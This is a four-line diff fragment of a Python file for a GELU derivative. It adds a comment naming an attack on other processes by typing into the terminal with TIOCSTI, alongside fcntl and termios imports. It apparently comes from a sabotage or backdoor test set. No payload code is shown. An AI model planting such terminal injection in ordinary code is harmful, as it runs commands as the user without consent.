@@ -1,4 +1,5 @@
 # costs: gelu_prime
+# attack: other processes: types into the terminal with TIOCSTI
 import fcntl
 import termios
 from math import erf, exp, pi, sqrt
